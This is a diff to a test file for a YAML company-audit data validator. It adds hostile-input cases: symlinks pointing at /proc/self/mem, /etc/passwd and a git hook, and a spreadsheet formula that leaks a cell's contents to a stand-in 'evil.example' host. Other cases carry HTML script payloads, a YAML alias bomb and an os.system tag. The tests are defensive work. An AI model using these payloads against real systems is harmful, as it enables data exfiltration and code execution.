@@ -13,6 +13,8 @@ from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
 
+FIXTURES = Path(__file__).resolve().parent / "fixtures"
+
 VALID_NAME = "name: Valid Soft"
 NOTE_AT = "    started: '2019-02-01'\n"
 
@@ -32,6 +34,35 @@ class Case:
     also: tuple[tuple[str, Callable[[str], bytes]], ...] = ()  # other files of the tree: path
     # below the root → how their text changes (e.g. the edition moved to methodology v2)
     warning: bool = False  # the problem is a warning: validation still passes (exit 0)
+    link: str | None = None  # the file is a symbolic link to this path instead
+
+
+def write_case(case: Case, target: Path, text: str) -> None:
+    """Put the case's file at ``target``: its bytes, or a link when the case is one."""
+    if case.link is not None:
+        target.symlink_to(case.link)
+    else:
+        target.write_bytes(case.make(text))
+
+
+def place(tree: Path, case: Case) -> Path:
+    """Write the case's file into the tree (replacing the file it is made from)."""
+    for name, make in case.also:
+        other = tree / name
+        other.write_bytes(make(other.read_text(encoding="utf-8")))
+    if case.target == "edition":
+        source = tree / "data" / "editions" / "fixture-edition.yaml"
+        text = source.read_text(encoding="utf-8")
+        source.unlink()
+        target = tree / "data" / "editions" / case.file
+    elif case.target == "methodology":
+        target = tree / "data" / "methodology" / case.file
+        text = target.read_text(encoding="utf-8")
+    else:
+        text = (FIXTURES / "valid.yaml").read_text(encoding="utf-8")
+        target = tree / "data" / "companies" / case.file
+    write_case(case, target, text)
+    return target
 
 
 def sub(old: str, new: str) -> Callable[[str], bytes]:
@@ -40,6 +71,11 @@ def sub(old: str, new: str) -> Callable[[str], bytes]:
         assert old in text, old
         return text.replace(old, new, 1).encode()
     return make
+
+
+def same(text: str) -> bytes:
+    """The valid file as it is (the case is in its name or its being a link)."""
+    return text.encode()
 
 
 def raw(data: bytes) -> Callable[[str], bytes]:
@@ -95,12 +131,23 @@ def stuff(copies: int, distinct: bool = False) -> Callable[[str], bytes]:
 
 
 HTML = "<script>alert(1)</script><img src=x onerror=alert(2)>"
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Valid Soft")'
 CASES: list[Case] = [
     # --- YAML itself ---
     Case("alias-bomb", alias_bomb, "yaml-anchor", heavy=True),
     Case("deep-nesting-10000", deep, "too-deep", heavy=True),
     Case("fifty-mb-file", fifty_mb, "file-too-large", heavy=True),
     Case("huge-scalar", note("x" * 900_000), "schema-length", heavy=True),
+    # --- the file itself: links and dotfiles (never read, never written through) ---
+    Case("symlink-to-proc-self-mem", same, "symlink", link="/proc/self/mem"),
+    Case("symlink-to-etc-passwd", same, "symlink", link="/etc/passwd"),
+    Case("symlink-to-git-hook", same, "symlink", link="../../.git/hooks/pre-commit",
+         file=".valid.yaml"),
+    Case("symlink-edition", same, "symlink", link="../companies/neighbour.yaml",
+         target="edition", file="fixture-edition.yaml"),
+    Case("dotfile-company", same, "dotfile", file=".valid.yaml"),
+    Case("dotfile-edition", same, "dotfile", target="edition",
+         file=".fixture-edition.yaml"),
     Case("duplicate-key-top", sub("country: PL\n", "country: PL\ncountry: DE\n"), "duplicate-key"),
     Case("duplicate-key-audit", sub(NOTE_AT, NOTE_AT + "    started: '2019-02-02'\n"),
          "duplicate-key"),
@@ -157,6 +204,8 @@ CASES: list[Case] = [
          "invalid-character"),
     # --- text: shown as text, never as markup ---
     Case("html-in-name", field(VALID_NAME, "name", HTML), literal=HTML),
+    # A spreadsheet runs it from a CSV export: the CSV cell gets a leading ' (JSON stays exact).
+    Case("formula-in-name", field(VALID_NAME, "name", FORMULA), literal=FORMULA),
     Case("html-in-audit-notes", note(HTML), literal=HTML),
     Case("html-in-channel-notes", sub("      - type: email\n",
                                       f"      - type: email\n        notes: {quoted(HTML)}\n"),
@@ -222,29 +271,6 @@ CASES: list[Case] = [
                                    "        evidence: [evidence/valid/..]\n"), "evidence-path"),
     Case("edition-tag", sub("title: Fixture edition", "title: !!python/name:os.system"),
          "yaml-tag", target="edition", file="fixture-edition.yaml"),
-    # --- methodology files, and what methodology v2 asks of the data ---
-    Case("methodology-missing-key", sub("public_holidays: true\n", ""), "schema-required",
-         target="methodology", file="v2.yaml",
-         text="data/methodology/v2.yaml:5:1: missing required property 'public_holidays' — "
-         "hint: add `public_holidays:` — True when business time skips the public holidays of "
-         "the company's country."),
-    Case("methodology-weights-not-one", sub("  respect: 0.10", "  respect: 0.05"), "shares-sum",
-         target="methodology", file="v1.yaml",
-         text="data/methodology/v1.yaml:76:1: weights: weights sum to 0.95, not 1 — hint: they "
-         "are the sub-scores' shares of the composite score; change them so that they add up "
-         "to 1"),
-    Case("methodology-promise-order", sub("  broken: 0.0", "  broken: 0.75"), "promise-order",
-         target="methodology", file="v2.yaml",
-         text="data/methodology/v2.yaml:92:3: promise_points.none: not promising (none: 0.5) "
-         "scores below promising and breaking it (broken: 0.75) — hint: not promising must "
-         "never score below promising and breaking it; order them kept ≥ none ≥ broken"),
-    Case("v2-probe-missing-two-rubric-items",
-         sub("          personal: true\n          polite_literate: true\n", ""),
-         "quality-marks-missing",
-         also=(("data/editions/fixture-edition.yaml", sub("methodology: v1", "methodology: v2")),),
-         text="data/companies/valid.yaml:39:9: audits[0].probes[0].quality: 2 rubric items are "
-         "not marked — hint: methodology v2 needs every rubric item marked true, false or "
-         '"n/a" on a probe a person answered; add personal, polite_literate'),
     Case("edition-without-status", sub("status: published\n", ""), "schema-required",
          target="edition", file="fixture-edition.yaml"),
     # --- values that match a pattern but for a trailing newline ---
@@ -277,6 +303,29 @@ CASES: list[Case] = [
          "invalid-domain"),
     Case("duplicate-display-name", sub(VALID_NAME, "name: Neighbour W\u043erks"),
          "duplicate-name", warning=True),
+    # --- methodology files, and what methodology v2 asks of the data ---
+    Case("methodology-missing-key", sub("public_holidays: true\n", ""), "schema-required",
+         target="methodology", file="v2.yaml",
+         text="data/methodology/v2.yaml:5:1: missing required property 'public_holidays' — "
+         "hint: add `public_holidays:` — True when business time skips the public holidays of "
+         "the company's country."),
+    Case("methodology-weights-not-one", sub("  respect: 0.10", "  respect: 0.05"), "shares-sum",
+         target="methodology", file="v1.yaml",
+         text="data/methodology/v1.yaml:76:1: weights: weights sum to 0.95, not 1 — hint: they "
+         "are the sub-scores' shares of the composite score; change them so that they add up "
+         "to 1"),
+    Case("methodology-promise-order", sub("  broken: 0.0", "  broken: 0.75"), "promise-order",
+         target="methodology", file="v2.yaml",
+         text="data/methodology/v2.yaml:92:3: promise_points.none: not promising (none: 0.5) "
+         "scores below promising and breaking it (broken: 0.75) — hint: not promising must "
+         "never score below promising and breaking it; order them kept ≥ none ≥ broken"),
+    Case("v2-probe-missing-two-rubric-items",
+         sub("          personal: true\n          polite_literate: true\n", ""),
+         "quality-marks-missing",
+         also=(("data/editions/fixture-edition.yaml", sub("methodology: v1", "methodology: v2")),),
+         text="data/companies/valid.yaml:39:9: audits[0].probes[0].quality: 2 rubric items are "
+         "not marked — hint: methodology v2 needs every rubric item marked true, false or "
+         '"n/a" on a probe a person answered; add personal, polite_literate'),
 ]
 
 
